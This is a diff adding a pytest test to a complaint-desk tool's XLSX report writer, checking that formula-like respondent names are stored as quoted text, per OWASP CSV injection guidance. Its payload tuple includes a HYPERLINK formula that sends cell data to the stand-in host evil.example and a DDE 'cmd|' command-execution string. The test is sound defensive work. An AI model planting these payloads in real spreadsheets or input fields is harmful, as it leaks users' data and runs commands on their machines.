@@ -3,6 +3,8 @@ and `complaint-desk report` writing both files."""
 
 from __future__ import annotations
 
+import zipfile
+from dataclasses import replace
 from datetime import UTC, date, datetime
 from pathlib import Path
 
@@ -11,7 +13,9 @@ from openpyxl import load_workbook
 
 from cases.report import NO_UNIT, build_monthly_report, render_html, write_report
 from cases.rules import Rules
+from cases.stats import Count
 from tests.cases.test_stats import OTHER, Month
+from tests.factories import make_case
 from tests.test_cli import run
 
 NOW = datetime(2026, 12, 1, 2, 0, tzinfo=UTC)  # 1 Dec 10:00 Shanghai
@@ -153,3 +157,37 @@ def test_cli_writes_both_files(tmp_path: Path) -> None:
     )
     wb = load_workbook(out / "report-2026-11.xlsx")
     assert wb["汇总"]["A4"].value == "受理率" and wb["汇总"]["B4"].value == "—"
+
+
+INJECTIONS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+)
+
+
+async def test_citizen_text_is_written_as_text_never_as_a_formula(
+    store: Rules, tmp_path: Path
+) -> None:
+    """Issue 15, item 1: respondents named like formulas stay text (OWASP CSV injection);
+    the counts beside them stay numbers."""
+    for name in INJECTIONS:
+        await make_case(store, now=datetime(2026, 11, 10, 2, tzinfo=UTC), respondent_name=name)
+    data = await build_monthly_report(store, date(2026, 11, 1), NOW)
+    # Tab and CR cannot reach a respondent (control characters are dropped at intake).
+    extra = [Count("tab", "\t=1+1", 1), Count("cr", "\r=1+1", 1)]
+    data = replace(data, top_categories=[*data.top_categories, *extra])
+    xlsx, _ = write_report(data, tmp_path / "out")
+
+    with zipfile.ZipFile(xlsx) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
+    hot = load_workbook(xlsx)["热点"]
+    cells = {c.value: c for row in hot.iter_rows() for c in row if c.value is not None}
+    for text in (*INJECTIONS, "\t=1+1", "\n=1+1"):  # XML reads a CR back as LF
+        cell = cells[text]
+        assert (cell.data_type, cell.quotePrefix) == ("s", True), text
+        count = hot.cell(cell.row, 2)
+        assert (count.value, count.data_type) == (1, "n")
+    assert cells["被投诉对象"].quotePrefix is False  # plain text gets no prefix
